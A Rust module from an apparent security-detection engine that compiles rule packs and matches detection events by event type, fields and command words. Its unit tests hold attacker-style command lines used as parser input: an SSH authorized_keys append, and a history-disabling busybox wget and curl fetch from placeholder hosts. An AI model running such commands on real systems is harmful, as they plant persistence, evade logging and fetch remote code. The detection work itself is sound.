//! Compiled mapping rules and their evaluation against events.
//!
//! Packs ([`pack`]) are compiled once ([`compile`]) into a [`RuleSet`]: rules are dispatched by
//! event type, and every rule with a text or value condition is reached through one shared
//! matcher per field (one Aho-Corasick automaton, one `RegexSet`, one value index and one
//! command-word index), so an event costs one pass over each of its relevant fields whatever
//! the number of rules. Evaluation reuses per-thread scratch space and does not allocate in
//! steady state. This module decides which rules match; it does not build attributions.

pub mod compile;
pub mod pack;

use std::cell::RefCell;
use std::collections::HashMap;
use std::sync::Arc;

use aho_corasick::AhoCorasick;
use attackmesh::proto::{DetectionEvent, DetectorKind, Endpoint};
use attackmesh::text::{clip, severity_name};
use regex::{Regex, RegexSet};

pub use pack::{PackDef, RulePack};

use crate::kb::TechIdx;

/// Index of a rule in a [`RuleSet`].
pub(crate) type RuleIdx = u32;
type FieldIdx = u16;

/// Attribute keys that carry a process command line, in order of preference, after the
/// event's own `source.process.command_line` and `destination.process.command_line`.
const COMMAND_LINE_ATTRS: &[&str] = &[
    "input",
    "output_fields.proc.cmdline",
    "proc.cmdline",
    "process.command_line",
    "command_line",
    "cmdline",
    "data.command",
];

/// A loaded pack, as reported by `GetKnowledgeBaseInfo` and the CLI.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PackInfo {
    /// Pack name.
    pub name: String,
    /// Pack version.
    pub version: String,
    /// Where it was loaded from.
    pub source: String,
    /// Number of rules.
    pub rules: usize,
}

/// Compiled, validated rules of a set of packs.
#[derive(Debug)]
pub struct RuleSet {
    pub(crate) rules: Vec<Rule>,
    packs: Vec<PackInfo>,
    version: String,
    fields: Vec<FieldRef>,
    exact: HashMap<Box<str>, Dispatch>,
    globs: Vec<(Glob, Dispatch)>,
    any: Dispatch,
    /// Every rule with a trigger (pattern mode without an event type).
    all: Dispatch,
}

impl RuleSet {
    /// Number of rules.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// True when no rule is loaded.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The packs, in load order.
    pub fn packs(&self) -> &[PackInfo] {
        &self.packs
    }

    /// `name@version` of every pack, sorted by name and joined with `,`.
    pub fn version(&self) -> &str {
        &self.version
    }

    /// Full ids (`pack/rule`) of the rules matching `event`, in rule order (for tests and tools).
    pub fn matching_rule_ids(&self, event: &DetectionEvent) -> Vec<String> {
        with_scratch(|s| {
            self.matches(&EventFields(event), s);
            s.matched
                .iter()
                .map(|r| self.rules[*r as usize].full_id.clone())
                .collect()
        })
    }

    /// Number of rules matching `event` (the benchmarked hot path).
    pub fn count_matches(&self, event: &DetectionEvent) -> usize {
        with_scratch(|s| {
            self.matches(&EventFields(event), s);
            s.matched.len()
        })
    }

    /// Fills `scratch.matched` with the rules matching the fields, fallbacks dropped when any
    /// other rule matched.
    pub(crate) fn matches<F: Fields>(&self, f: &F, scratch: &mut Scratch) {
        scratch.reset(self.rules.len());
        match f.event_type() {
            Some(et) => {
                let lowered;
                let exact = match self.exact.get(et) {
                    Some(d) => Some(d),
                    None if et.bytes().any(|b| b.is_ascii_uppercase()) => {
                        lowered = et.to_ascii_lowercase();
                        self.exact.get(lowered.as_str())
                    }
                    None => None,
                };
                match exact {
                    Some(d) => self.run_dispatch(d, f, scratch),
                    None => {
                        self.run_dispatch(&self.any, f, scratch);
                        for (glob, d) in &self.globs {
                            if glob.matches(et) {
                                self.run_dispatch(d, f, scratch);
                            }
                        }
                    }
                }
            }
            None => self.run_dispatch(&self.all, f, scratch),
        }
        if scratch.matched.iter().any(|r| !self.rules[*r as usize].fallback) {
            let rules = &self.rules;
            scratch.matched.retain(|r| !rules[*r as usize].fallback);
        }
        scratch.matched.sort_unstable();
    }

    fn run_dispatch<F: Fields>(&self, d: &Dispatch, f: &F, scratch: &mut Scratch) {
        for r in &d.plain {
            if scratch.first_visit(*r) && self.verify(*r, f, None) {
                scratch.matched.push(*r);
            }
        }
        for (field, triggers) in &d.fields {
            self.run_field(*field, triggers, f, scratch);
        }
    }

    fn run_field<F: Fields>(&self, field: FieldIdx, t: &FieldTriggers, f: &F, scratch: &mut Scratch) {
        let Some(value) = f.get(&self.fields[field as usize]) else {
            return;
        };
        let mut buf = NumBuf::default();
        let text = value.as_text(&mut buf);
        if let Some((ac, rules)) = &t.contains {
            // Patterns are lower-case; searching lower-cased text lets the automaton stay small
            // and use its prefilters (ASCII case-insensitive automata can do neither).
            let mut lowered = std::mem::take(&mut scratch.text);
            let haystack: &str = if text.bytes().any(|b| b.is_ascii_uppercase()) {
                lowered.clear();
                lowered.push_str(text);
                lowered.make_ascii_lowercase();
                &lowered
            } else {
                text
            };
            for m in ac.find_overlapping_iter(haystack) {
                for r in &rules[m.pattern().as_usize()] {
                    self.candidate(*r, f, scratch);
                }
            }
            scratch.text = lowered;
        }
        if let Some((set, rules)) = &t.regex {
            scratch.regex_hits.clear();
            scratch.regex_hits.resize(set.len(), false);
            if set.matches_read_at(&mut scratch.regex_hits, text, 0) {
                for (i, rule) in rules.iter().enumerate() {
                    if scratch.regex_hits[i] {
                        self.candidate(*rule, f, scratch);
                    }
                }
            }
        }
        if !t.equals.is_empty() {
            let key = lower_into(text, &mut scratch.lower);
            if let Some(rules) = t.equals.get(key) {
                for r in rules {
                    self.candidate(*r, f, scratch);
                }
            }
        }
        if !t.command.is_empty() {
            for word in command_words(text) {
                let key = lower_into(word, &mut scratch.lower);
                if let Some(rules) = t.command.get(key) {
                    for r in rules {
                        self.candidate(*r, f, scratch);
                    }
                }
            }
        }
    }

    fn candidate<F: Fields>(&self, r: RuleIdx, f: &F, scratch: &mut Scratch) {
        if scratch.first_visit(r) {
            let rule = &self.rules[r as usize];
            if self.verify(r, f, rule.trigger) {
                scratch.matched.push(r);
            }
        }
    }

    fn verify<F: Fields>(&self, r: RuleIdx, f: &F, skip: Option<usize>) -> bool {
        let rule = &self.rules[r as usize];
        if let Some(et) = f.event_type() {
            if !rule.event_types.is_empty() && !rule.event_types.iter().any(|g| g.matches(et)) {
                return false;
            }
        } else if rule.conditions.is_empty() {
            return false;
        }
        if f.kind()
            .is_some_and(|kind| rule.kinds != 0 && rule.kinds & kind_bit(kind) == 0)
        {
            return false;
        }
        rule.conditions
            .iter()
            .enumerate()
            .all(|(i, c)| Some(i) == skip || c.eval(f.get(&self.fields[c.field as usize])))
    }

    /// The text of the field a rule matched on (its trigger, else its first condition), clipped.
    pub(crate) fn matched_text<F: Fields>(&self, r: RuleIdx, f: &F) -> Option<String> {
        let rule = &self.rules[r as usize];
        let c = rule
            .trigger
            .or(if rule.conditions.is_empty() { None } else { Some(0) })?;
        let value = f.get(&self.fields[rule.conditions[c].field as usize])?;
        let mut buf = NumBuf::default();
        Some(clip(value.as_text(&mut buf), 160).to_owned())
    }
}

/// A compiled rule.
#[derive(Debug)]
pub(crate) struct Rule {
    pub(crate) full_id: String,
    pub(crate) description: String,
    event_types: Vec<Glob>,
    kinds: u8,
    conditions: Vec<Condition>,
    trigger: Option<usize>,
    pub(crate) techniques: Vec<(TechIdx, f64)>,
    fallback: bool,
}

/// Rules to evaluate for one event type: trigger-less rules directly, the rest through the
/// matchers of their trigger field (built from exactly the rules of this dispatch, and shared
/// between dispatches with the same rules).
#[derive(Debug, Default, Clone)]
struct Dispatch {
    plain: Vec<RuleIdx>,
    fields: Vec<(FieldIdx, Arc<FieldTriggers>)>,
}

/// Matchers of one field for a set of rules, each result mapped to the rules it triggers.
#[derive(Debug, Default)]
struct FieldTriggers {
    contains: Option<(AhoCorasick, Vec<Vec<RuleIdx>>)>,
    regex: Option<(RegexSet, Vec<RuleIdx>)>,
    equals: HashMap<Box<str>, Vec<RuleIdx>>,
    command: HashMap<Box<str>, Vec<RuleIdx>>,
}

/// An event-type pattern.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
enum Glob {
    Any,
    Exact(Box<str>),
    Prefix(Box<str>),
    Suffix(Box<str>),
}

impl Glob {
    fn parse(s: &str) -> Option<Glob> {
        let s = s.trim().to_ascii_lowercase();
        let stars = s.matches('*').count();
        match (stars, s.strip_suffix('*'), s.strip_prefix('*')) {
            (0, ..) if !s.is_empty() => Some(Glob::Exact(s.into())),
            (1, _, _) if s == "*" => Some(Glob::Any),
            (1, Some(prefix), _) => Some(Glob::Prefix(prefix.into())),
            (1, _, Some(suffix)) => Some(Glob::Suffix(suffix.into())),
            _ => None,
        }
    }

    fn matches(&self, et: &str) -> bool {
        let (b, n) = (et.as_bytes(), |p: &str| p.len());
        match self {
            Glob::Any => true,
            Glob::Exact(e) => et.eq_ignore_ascii_case(e),
            Glob::Prefix(p) => b.len() >= n(p) && b[..n(p)].eq_ignore_ascii_case(p.as_bytes()),
            Glob::Suffix(s) => b.len() >= n(s) && b[b.len() - n(s)..].eq_ignore_ascii_case(s.as_bytes()),
        }
    }
}

/// What a condition reads.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub(crate) enum FieldRef {
    Description,
    EventType,
    SourceService,
    Severity,
    CommandLine,
    Endpoint(Side, EndpointField),
    Attr(Box<str>),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum Side {
    Source,
    Destination,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum EndpointField {
    Ip,
    Port,
    Hostname,
    User,
    ProcessName,
    ProcessExecutable,
    ProcessCommandLine,
    ProcessParentName,
}

/// A field value: text, or a port number (formatted only when compared as text).
#[derive(Debug, Clone, Copy)]
pub(crate) enum Value<'a> {
    Str(&'a str),
    Num(u32),
}

#[derive(Default)]
pub(crate) struct NumBuf([u8; 10]);

impl<'a> Value<'a> {
    fn as_text<'b>(&self, buf: &'b mut NumBuf) -> &'b str
    where
        'a: 'b,
    {
        match *self {
            Value::Str(s) => s,
            Value::Num(mut n) => {
                let mut i = buf.0.len();
                loop {
                    i -= 1;
                    buf.0[i] = b'0' + (n % 10) as u8;
                    n /= 10;
                    if n == 0 {
                        break;
                    }
                }
                std::str::from_utf8(&buf.0[i..]).unwrap_or_default()
            }
        }
    }

    fn as_number(&self) -> Option<f64> {
        match *self {
            Value::Str(s) => s.trim().parse().ok(),
            Value::Num(n) => Some(f64::from(n)),
        }
    }
}

/// A compiled condition.
#[derive(Debug)]
pub(crate) struct Condition {
    field: FieldIdx,
    op: Op,
    negate: bool,
}

#[derive(Debug)]
enum Op {
    Equals(Vec<Box<str>>),
    Contains(AhoCorasick),
    Regex(Vec<Regex>),
    Command(Vec<Box<str>>),
    Compare {
        gt: Option<f64>,
        gte: Option<f64>,
        lt: Option<f64>,
        lte: Option<f64>,
    },
    Exists(bool),
}

impl Condition {
    fn eval(&self, value: Option<Value<'_>>) -> bool {
        let holds = match (&self.op, value) {
            (Op::Exists(want), v) => v.is_some() == *want,
            (_, None) => false,
            (op, Some(v)) => {
                let mut buf = NumBuf::default();
                let text = v.as_text(&mut buf);
                match op {
                    Op::Equals(values) => values.iter().any(|e| e.eq_ignore_ascii_case(text)),
                    Op::Contains(ac) => ac.is_match(text),
                    Op::Regex(res) => res.iter().any(|r| r.is_match(text)),
                    Op::Command(names) => command_words(text).any(|w| names.iter().any(|n| n.eq_ignore_ascii_case(w))),
                    Op::Compare { gt, gte, lt, lte } => v.as_number().is_some_and(|x| {
                        gt.is_none_or(|b| x > b)
                            && gte.is_none_or(|b| x >= b)
                            && lt.is_none_or(|b| x < b)
                            && lte.is_none_or(|b| x <= b)
                    }),
                    Op::Exists(_) => true,
                }
            }
        };
        holds != self.negate
    }
}

/// Where rule evaluation reads field values from.
pub(crate) trait Fields {
    /// The event type; `None` in pattern mode without a type (type filters are ignored).
    fn event_type(&self) -> Option<&str>;
    /// The detector kind; `None` when kind filters are ignored.
    fn kind(&self) -> Option<DetectorKind>;
    /// A field's value; empty values are absent.
    fn get(&self, field: &FieldRef) -> Option<Value<'_>>;
}

/// Fields of a detection event.
pub(crate) struct EventFields<'e>(pub(crate) &'e DetectionEvent);

impl Fields for EventFields<'_> {
    fn event_type(&self) -> Option<&str> {
        Some(&self.0.event_type)
    }

    fn kind(&self) -> Option<DetectorKind> {
        Some(match DetectorKind::try_from(self.0.detector_kind) {
            Ok(DetectorKind::Unspecified) | Err(_) => DetectorKind::Other,
            Ok(k) => k,
        })
    }

    fn get(&self, field: &FieldRef) -> Option<Value<'_>> {
        let ev = self.0;
        match field {
            FieldRef::Attr(key) => ev.attributes.get(&**key).and_then(|v| s(v)).map(Value::Str),
            FieldRef::Description => s(&ev.description).map(Value::Str),
            FieldRef::EventType => s(&ev.event_type).map(Value::Str),
            FieldRef::SourceService => s(&ev.source_service).map(Value::Str),
            FieldRef::Severity => Some(Value::Str(severity_name(ev.severity))),
            FieldRef::CommandLine => command_line(ev).map(Value::Str),
            FieldRef::Endpoint(side, f) => {
                let ep = match side {
                    Side::Source => ev.source.as_ref(),
                    Side::Destination => ev.destination.as_ref(),
                }?;
                endpoint_field(ep, *f)
            }
        }
    }
}

fn endpoint_field(ep: &Endpoint, f: EndpointField) -> Option<Value<'_>> {
    let p = ep.process.as_ref();
    match f {
        EndpointField::Ip => s(&ep.ip).map(Value::Str),
        EndpointField::Port => (ep.port != 0).then_some(Value::Num(ep.port)),
        EndpointField::Hostname => s(&ep.hostname).map(Value::Str),
        EndpointField::User => s(&ep.user).map(Value::Str),
        EndpointField::ProcessName => p.and_then(|p| s(&p.name)).map(Value::Str),
        EndpointField::ProcessExecutable => p.and_then(|p| s(&p.executable)).map(Value::Str),
        EndpointField::ProcessCommandLine => p.and_then(|p| s(&p.command_line)).map(Value::Str),
        EndpointField::ProcessParentName => p.and_then(|p| s(&p.parent_name)).map(Value::Str),
    }
}

/// The command line an event carries: a process command line, else a known attribute.
fn command_line(ev: &DetectionEvent) -> Option<&str> {
    fn process(ep: &Option<Endpoint>) -> Option<&str> {
        ep.as_ref()
            .and_then(|e| e.process.as_ref())
            .map(|p| p.command_line.as_str())
            .filter(|c| !c.is_empty())
    }
    if let Some(c) = process(&ev.source).or_else(|| process(&ev.destination)) {
        return Some(c);
    }
    // One pass over a typical attribute map is cheaper than a hash lookup per candidate key.
    if ev.attributes.len() <= 64 {
        // Bit n is set when some candidate key is n bytes long: most keys are skipped on length.
        const LENGTHS: u64 = {
            let mut mask = 0u64;
            let mut i = 0;
            while i < COMMAND_LINE_ATTRS.len() {
                mask |= 1 << COMMAND_LINE_ATTRS[i].len();
                i += 1;
            }
            mask
        };
        let mut best: Option<(usize, &str)> = None;
        for (k, v) in &ev.attributes {
            if k.len() >= 64 || LENGTHS & (1 << k.len()) == 0 {
                continue;
            }
            let rank = COMMAND_LINE_ATTRS.iter().position(|c| *c == k);
            if let Some(rank) = rank.filter(|rank| !v.is_empty() && best.is_none_or(|(r, _)| *rank < r)) {
                best = Some((rank, v));
            }
        }
        return best.map(|(_, v)| v);
    }
    COMMAND_LINE_ATTRS
        .iter()
        .find_map(|k| ev.attributes.get(*k).filter(|v| !v.is_empty()))
        .map(String::as_str)
}

/// Free text mapped by `MapPatterns`: every field reads the pattern.
pub(crate) struct PatternFields<'p> {
    pub(crate) pattern: &'p str,
    pub(crate) event_type: Option<&'p str>,
    pub(crate) kind: Option<DetectorKind>,
}

impl Fields for PatternFields<'_> {
    fn event_type(&self) -> Option<&str> {
        self.event_type
    }
    fn kind(&self) -> Option<DetectorKind> {
        self.kind
    }
    fn get(&self, _field: &FieldRef) -> Option<Value<'_>> {
        (!self.pattern.is_empty()).then_some(Value::Str(self.pattern))
    }
}

pub(crate) fn kind_bit(kind: DetectorKind) -> u8 {
    match kind {
        DetectorKind::TrafficMonitor => 1,
        DetectorKind::BehaviouralAnalysis => 2,
        DetectorKind::Decoy => 4,
        DetectorKind::Other | DetectorKind::Unspecified => 8,
    }
}

/// `Some(v)` unless `v` is empty.
fn s(v: &str) -> Option<&str> {
    (!v.is_empty()).then_some(v)
}

/// Commands of a shell command line: the first word of every pipeline or list element, with
/// the path and a `.exe` suffix stripped and `sudo`/`nohup`/`busybox`/`env`/`VAR=value`
/// prefixes skipped.
pub fn command_words(line: &str) -> impl Iterator<Item = &str> {
    line.split(['\n', ';', '|', '&', '(', ')', '`', '{', '}'])
        .filter_map(|segment| {
            segment
                .split_ascii_whitespace()
                .map(|w| w.trim_matches(['"', '\'', '$', '!']))
                .filter(|w| !w.is_empty())
                .find(|w| !is_prefix_word(w))
                .map(|w| {
                    let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
                    match base.len().checked_sub(4) {
                        Some(cut) if base.is_char_boundary(cut) && base[cut..].eq_ignore_ascii_case(".exe") => {
                            &base[..cut]
                        }
                        _ => base,
                    }
                })
                .filter(|w| !w.is_empty())
        })
}

/// Words before the command itself: wrappers, shell keywords, options and `VAR=value`.
fn is_prefix_word(w: &str) -> bool {
    const WRAPPERS: &[&str] = &[
        "sudo", "nohup", "busybox", "env", "exec", "command", "time", "nice", "then", "do", "else",
    ];
    WRAPPERS.contains(&w) || w.starts_with('-') || (w.contains('=') && !w.starts_with('/'))
}

/// Per-thread reusable buffers of rule evaluation.
#[derive(Debug, Default)]
pub(crate) struct Scratch {
    seen: Vec<u64>,
    pub(crate) matched: Vec<RuleIdx>,
    regex_hits: Vec<bool>,
    lower: String,
    text: String,
}

impl Scratch {
    fn reset(&mut self, rules: usize) {
        self.seen.clear();
        self.seen.resize(rules.div_ceil(64), 0);
        self.matched.clear();
    }

    fn first_visit(&mut self, r: RuleIdx) -> bool {
        first(&mut self.seen, r as usize)
    }
}

fn first(bits: &mut [u64], i: usize) -> bool {
    let (w, b) = (i / 64, 1u64 << (i % 64));
    let fresh = bits[w] & b == 0;
    bits[w] |= b;
    fresh
}

thread_local! {
    static SCRATCH: RefCell<Scratch> = RefCell::new(Scratch::default());
}

/// Runs `f` with this thread's scratch space (a fresh one if re-entered).
pub(crate) fn with_scratch<R>(f: impl FnOnce(&mut Scratch) -> R) -> R {
    SCRATCH.with(|cell| match cell.try_borrow_mut() {
        Ok(mut s) => f(&mut s),
        Err(_) => f(&mut Scratch::default()),
    })
}

/// Lower-cases ASCII into `buf` (reused) unless already lower-case.
fn lower_into<'a>(text: &'a str, buf: &'a mut String) -> &'a str {
    if text.bytes().any(|b| b.is_ascii_uppercase()) {
        buf.clear();
        buf.push_str(text);
        buf.make_ascii_lowercase();
        buf.as_str()
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_words_finds_every_command_of_a_line() {
        let words: Vec<&str> =
            command_words("mkdir -p ~/.ssh && echo 'x' >> ~/.ssh/authorized_keys; sudo /usr/bin/id | wc -l").collect();
        assert_eq!(words, ["mkdir", "echo", "id", "wc"]);
        let words: Vec<&str> = command_words("HISTFILE=/dev/null busybox wget http://x/y; $(curl -s z)").collect();
        assert_eq!(words, ["wget", "curl"]);
        assert_eq!(
            command_words("cat /proc/cpuinfo | grep name | wc -l").collect::<Vec<_>>(),
            ["cat", "grep", "wc"]
        );
        assert_eq!(
            command_words(r"C:\Windows\System32\WHOAMI.EXE /all").collect::<Vec<_>>(),
            ["WHOAMI"]
        );
    }

    #[test]
    fn globs_cover_exact_prefix_suffix_and_any() {
        assert!(Glob::parse("cowrie.*").expect("glob").matches("cowrie.login.failed"));
        assert!(!Glob::parse("cowrie.*").expect("glob").matches("zeek.notice"));
        assert!(Glob::parse("*.alert").expect("glob").matches("Suricata.Alert"));
        assert!(Glob::parse("*").expect("glob").matches("anything"));
        assert!(Glob::parse("port_scan").expect("glob").matches("PORT_SCAN"));
        assert_eq!(Glob::parse("a*b*"), None);
        assert_eq!(Glob::parse("a*b"), None);
    }

    #[test]
    fn numbers_format_without_allocation() {
        let mut buf = NumBuf::default();
        assert_eq!(Value::Num(2222).as_text(&mut buf), "2222");
        assert_eq!(Value::Num(0).as_text(&mut NumBuf::default()), "0");
    }
}
